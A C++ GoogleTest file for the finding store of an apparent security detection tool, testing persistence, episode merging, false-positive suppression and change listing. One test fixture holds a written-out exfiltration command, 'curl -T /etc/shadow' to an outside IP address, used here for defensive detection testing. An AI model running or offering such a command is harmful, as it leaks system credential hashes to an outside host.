// SPDX-License-Identifier: Apache-2.0
#include "collector/detect/finding_store.h"

#include <gtest/gtest.h>

#include "tests/support/temp_dir.h"

namespace culprit {
namespace {

constexpr std::int64_t kSecond = 1'000'000'000;
constexpr std::int64_t kHour = 3600 * kSecond;

v1::Finding Make(const std::string& id, std::int64_t first = 100 * kSecond,
                 std::int64_t last = 110 * kSecond) {
  v1::Finding finding;
  finding.set_id(id);
  finding.set_agent_id("a");
  finding.set_host("web");
  finding.set_rule("scan");
  finding.set_subject("group");
  finding.set_exe("/usr/bin/tool");
  finding.set_exe_sha256(std::string(64, 'a'));
  finding.set_severity(v1::SEVERITY_HIGH);
  finding.set_state(v1::FINDING_STATE_OPEN);
  finding.set_first_ns(first);
  finding.set_last_ns(last);
  finding.set_last_lsn(static_cast<std::uint64_t>(last / kSecond));
  finding.add_targets()->set_address("198.51.100.7");
  return finding;
}

class FindingStoreTest : public ::testing::Test {
 protected:
  FindingStoreTest() { Reopen(); }
  void Reopen() {
    store_.reset();
    auto opened = OpenFindingStore(dir_ / "findings.db");
    ASSERT_TRUE(opened) << opened.error().message;
    store_ = std::move(*opened);
  }
  void Put(const v1::Finding& finding, Lsn lsn = 1) {
    ASSERT_TRUE(store_->Put(finding, WallTimeFromNs(500 * kSecond)));
    ASSERT_TRUE(store_->Commit(lsn));
  }
  std::vector<v1::Finding> All(const FindingQuery& query = {}) { return *store_->List(query); }
  v1::Finding Decide(const std::string& id, v1::FindingState state) {
    auto decided = store_->Decide(id, {state, "because", "operator", WallTimeFromNs(9 * kHour)});
    return decided ? *decided : v1::Finding{};
  }
  TempDir dir_{TempDir::Where::kMemory};
  std::unique_ptr<FindingStore> store_;
};

TEST_F(FindingStoreTest, WhatIsCommittedIsThereAfterAnotherStart) {
  Put(Make("a1"), 7);
  Reopen();
  ASSERT_EQ(All().size(), 1U);
  EXPECT_EQ(store_->committed(), 7U);
}

TEST_F(FindingStoreTest, WhatIsNotCommittedIsFoundAgainAndNotTwice) {
  ASSERT_TRUE(store_->Put(Make("a1"), {}));
  Reopen();
  EXPECT_TRUE(All().empty());
  EXPECT_EQ(store_->committed(), 0U);
}

TEST_F(FindingStoreTest, AFindingThatIsPutAgainChangesNothingThatIsDecided) {
  Put(Make("a1"));
  EXPECT_EQ(Decide("a1", v1::FINDING_STATE_ACKNOWLEDGED).state_by(), "operator");
  Put(Make("a1"));
  Put(Make("a1", 100 * kSecond, 300 * kSecond));
  ASSERT_EQ(All().size(), 1U);
  EXPECT_EQ(All()[0].state(), v1::FINDING_STATE_ACKNOWLEDGED);
  EXPECT_EQ(All()[0].state_reason(), "because");
  EXPECT_EQ(All()[0].last_ns(), 300 * kSecond);
}

TEST_F(FindingStoreTest, OldEvidenceDoesNotTakeAFindingBack) {
  Put(Make("a1", 100 * kSecond, 300 * kSecond));
  Put(Make("a1", 100 * kSecond, 110 * kSecond));
  EXPECT_EQ(All()[0].last_ns(), 300 * kSecond);
}

// Who begins to read in the middle sees a later beginning, and gives another id.
TEST_F(FindingStoreTest, TheMiddleOfAnEpisodeIsNoSecondFinding) {
  Put(Make("a1", 100 * kSecond, 200 * kSecond));
  Put(Make("b2", 150 * kSecond, 250 * kSecond));
  ASSERT_EQ(All().size(), 1U);
  EXPECT_EQ(All()[0].id(), "a1");
  EXPECT_EQ(All()[0].first_ns(), 100 * kSecond);
  EXPECT_EQ(All()[0].last_ns(), 250 * kSecond);
}

TEST_F(FindingStoreTest, AnEpisodeAnHourLaterIsAnotherFinding) {
  Put(Make("a1"));
  Put(Make("b2", 110 * kSecond + kHour + 1, 2 * kHour));
  EXPECT_EQ(All().size(), 2U);
}

TEST_F(FindingStoreTest, AFalsePositiveKeepsTheNextOfItsKindQuiet) {
  Put(Make("a1"));
  EXPECT_EQ(Decide("a1", v1::FINDING_STATE_FALSE_POSITIVE).id(), "a1");
  Put(Make("b2", 5 * kHour, 5 * kHour));
  EXPECT_EQ(All()[0].state(), v1::FINDING_STATE_FALSE_POSITIVE);
  v1::Finding elsewhere = Make("c3", 9 * kHour, 9 * kHour);
  elsewhere.mutable_targets(0)->set_address("203.0.113.8");
  Put(elsewhere);
  EXPECT_EQ(All()[0].state(), v1::FINDING_STATE_OPEN);
  v1::Finding another = Make("d4", 12 * kHour, 12 * kHour);
  another.set_exe("/tmp/tool");
  Put(another);
  EXPECT_EQ(All()[0].state(), v1::FINDING_STATE_OPEN);
}

TEST_F(FindingStoreTest, AnotherFileUnderTheSamePathIsNotSuppressed) {
  Put(Make("a1"));
  Decide("a1", v1::FINDING_STATE_FALSE_POSITIVE);
  v1::Finding other = Make("b2", 5 * kHour, 5 * kHour);
  other.set_exe_sha256(std::string(64, 'b'));
  Put(other);
  EXPECT_EQ(All()[0].state(), v1::FINDING_STATE_OPEN);
  v1::Finding unknown = Make("c3", 9 * kHour, 9 * kHour);
  unknown.clear_exe_sha256();
  Put(unknown);
  EXPECT_EQ(All()[0].state(), v1::FINDING_STATE_OPEN);
}

TEST_F(FindingStoreTest, WithoutAHashOnlyTheFindingItselfIsQuiet) {
  v1::Finding unknown = Make("a1");
  unknown.clear_exe_sha256();
  Put(unknown);
  Decide("a1", v1::FINDING_STATE_FALSE_POSITIVE);
  unknown.set_id("b2");
  unknown.set_first_ns(5 * kHour);
  unknown.set_last_ns(5 * kHour);
  Put(unknown);
  EXPECT_EQ(All()[0].state(), v1::FINDING_STATE_OPEN);
  EXPECT_EQ(All()[1].state(), v1::FINDING_STATE_FALSE_POSITIVE);
}

TEST_F(FindingStoreTest, OfAToolTheCommandLineCountsToo) {
  v1::Finding backup = Make("a1");
  backup.set_exe("/usr/bin/curl");
  backup.set_command_line("curl -T backup.tar https://198.51.100.7/");
  Put(backup);
  Decide("a1", v1::FINDING_STATE_FALSE_POSITIVE);
  backup.set_id("b2");
  backup.set_first_ns(5 * kHour);
  backup.set_last_ns(5 * kHour);
  Put(backup);
  EXPECT_EQ(All()[0].state(), v1::FINDING_STATE_FALSE_POSITIVE);
  backup.set_id("c3");
  backup.set_first_ns(9 * kHour);
  backup.set_last_ns(9 * kHour);
  backup.set_command_line("curl -T /etc/shadow https://198.51.100.7/");
  Put(backup);
  EXPECT_EQ(All()[0].state(), v1::FINDING_STATE_OPEN);
}

TEST_F(FindingStoreTest, AFalsePositiveThatReachesOtherTargetsIsOpenAgain) {
  v1::Finding finding = Make("a1");
  finding.set_rule("egress");
  Put(finding);
  Decide("a1", v1::FINDING_STATE_FALSE_POSITIVE);
  finding.set_last_ns(200 * kSecond);
  finding.set_last_lsn(200);
  Put(finding);
  EXPECT_EQ(All()[0].state(), v1::FINDING_STATE_FALSE_POSITIVE);
  finding.add_targets()->set_address("203.0.113.9");
  finding.set_last_lsn(300);
  Put(finding);
  EXPECT_EQ(All()[0].state(), v1::FINDING_STATE_OPEN);
  EXPECT_NE(All()[0].state_reason().find("other targets"), std::string::npos);
  // Called false again, with both.
  Decide("a1", v1::FINDING_STATE_FALSE_POSITIVE);
  finding.set_last_lsn(400);
  Put(finding);
  EXPECT_EQ(All()[0].state(), v1::FINDING_STATE_FALSE_POSITIVE);
}

TEST_F(FindingStoreTest, AScanIsSuppressedForItsNetwork) {
  Put(Make("a1"));
  Decide("a1", v1::FINDING_STATE_FALSE_POSITIVE);
  v1::Finding near = Make("b2", 5 * kHour, 5 * kHour);
  near.mutable_targets(0)->set_address("198.51.77.1");
  Put(near);
  EXPECT_EQ(All()[0].state(), v1::FINDING_STATE_FALSE_POSITIVE);
  v1::Finding far = Make("c3", 9 * kHour, 9 * kHour);
  far.mutable_targets(0)->set_address("203.0.113.1");
  Put(far);
  EXPECT_EQ(All()[0].state(), v1::FINDING_STATE_OPEN);
}

TEST_F(FindingStoreTest, TheBaselineOutlivesARestartAndForgetsWhatIsGone) {
  const Uuid one = Uuid::Random(), two = Uuid::Random();
  const auto at = [](std::int64_t hour) { return WallTimeFromNs(hour * kHour); };
  const std::string address("\0\1binary\xff", 9);
  ASSERT_TRUE(store_->PutSeen({{one, SeenKind::kHost, "ami-1", at(3000), at(3001), false},
                               {one, SeenKind::kDestination, address, at(3000), at(3001), false},
                               {two, SeenKind::kRegion, "old", at(1), at(2), false},
                               {two, SeenKind::kRegion, "eu-west-1", at(2999), at(3000), false}}));
  ASSERT_TRUE(store_->PutSeen({{one, SeenKind::kDestination, address, at(3002), at(3002), false},
                               {two, SeenKind::kRegion, "eu-west-1", {}, {}, true}}));
  ASSERT_TRUE(store_->Commit(1));
  Reopen();
  const auto rows = store_->LoadSeen();
  ASSERT_TRUE(rows);
  ASSERT_EQ(rows->size(), 2U);
  for (const SeenRow& row : *rows) {
    EXPECT_EQ(row.agent, one);
    EXPECT_EQ(row.first, at(3000));
    EXPECT_EQ(row.last, row.kind == SeenKind::kHost ? at(3001) : at(3002));
    EXPECT_EQ(row.name, row.kind == SeenKind::kHost ? "ami-1" : address);
  }
  ASSERT_TRUE(store_->PutSeen({{one, SeenKind::kHost, {}, {}, {}, true}}));
  EXPECT_TRUE(store_->LoadSeen()->empty());
}

TEST_F(FindingStoreTest, AFalsePositiveThatIsTakenBackSuppressesNothing) {
  Put(Make("a1"));
  Decide("a1", v1::FINDING_STATE_FALSE_POSITIVE);
  Decide("a1", v1::FINDING_STATE_OPEN);
  Put(Make("b2", 5 * kHour, 5 * kHour));
  EXPECT_EQ(All()[0].state(), v1::FINDING_STATE_OPEN);
}

TEST_F(FindingStoreTest, ListsWhatIsAskedFor) {
  Put(Make("a1"));
  v1::Finding low = Make("b2", 5 * kHour, 5 * kHour);
  low.set_rule("beacon");
  low.set_severity(v1::SEVERITY_LOW);
  low.set_host("db");
  low.set_agent_id("b");
  Put(low);
  FindingQuery query;
  query.host = "db";
  EXPECT_EQ(All(query).size(), 1U);
  query.host = "b";
  EXPECT_EQ(All(query).size(), 1U);
  query = {};
  query.rule = "scan";
  EXPECT_EQ(All(query).size(), 1U);
  query = {};
  query.id = "b";
  EXPECT_EQ(All(query).size(), 1U);
  query = {};
  query.min_severity = v1::SEVERITY_HIGH;
  EXPECT_EQ(All(query).size(), 1U);
  query = {};
  query.states = {v1::FINDING_STATE_CLOSED};
  EXPECT_TRUE(All(query).empty());
  query = {};
  query.since = WallTimeFromNs(kHour);
  EXPECT_EQ(All(query).size(), 1U);
  query = {};
  query.limit = 1;
  EXPECT_EQ(All(query).at(0).id(), "b2");
}

TEST_F(FindingStoreTest, ChangesAreToldInTheirOrderOnceTheyAreCommitted) {
  Put(Make("a1"));
  Put(Make("b2", 5 * kHour, 5 * kHour));
  Put(Make("a1", 100 * kSecond, 300 * kSecond));
  ASSERT_TRUE(store_->Put(Make("c3", 9 * kHour, 9 * kHour), {}));
  const auto ids = [this](std::uint64_t after, std::uint32_t limit) {
    std::vector<std::string> found;
    const auto changes = store_->Changes(after, limit);
    EXPECT_TRUE(changes);
    for (const FindingChange& change : *changes) found.push_back(change.finding.id());
    return found;
  };
  EXPECT_EQ(ids(0, 10), (std::vector<std::string>{"b2", "a1"}));
  ASSERT_TRUE(store_->Commit(9));
  EXPECT_EQ(ids(0, 10), (std::vector<std::string>{"b2", "a1", "c3"}));
  EXPECT_EQ(ids(0, 1), (std::vector<std::string>{"b2"}));
  const std::uint64_t first = store_->Changes(0, 1)->at(0).number;
  EXPECT_EQ(ids(first, 10), (std::vector<std::string>{"a1", "c3"}));
  Decide("b2", v1::FINDING_STATE_CLOSED);
  EXPECT_EQ(ids(first, 10).back(), "b2");
  EXPECT_TRUE(ids(store_->WaitChange(0, std::chrono::milliseconds(0)), 10).empty());
}

TEST_F(FindingStoreTest, DecidingOverNothingIsNotFound) {
  const auto decided = store_->Decide("zz", {v1::FINDING_STATE_CLOSED, "", "", {}});
  ASSERT_FALSE(decided);
  EXPECT_NE(decided.error().message.find("no finding zz"), std::string::npos);
}

TEST_F(FindingStoreTest, WhoWaitsIsToldOfAChange) {
  const std::uint64_t before = store_->WaitChange(0, std::chrono::milliseconds(0));
  Put(Make("a1"));
  const std::uint64_t after = store_->WaitChange(before, std::chrono::seconds(5));
  EXPECT_GT(after, before);
  FindingQuery query;
  query.changed_after = before;
  EXPECT_EQ(All(query).size(), 1U);
  query.changed_after = after;
  EXPECT_TRUE(All(query).empty());
}

}  // namespace
}  // namespace culprit
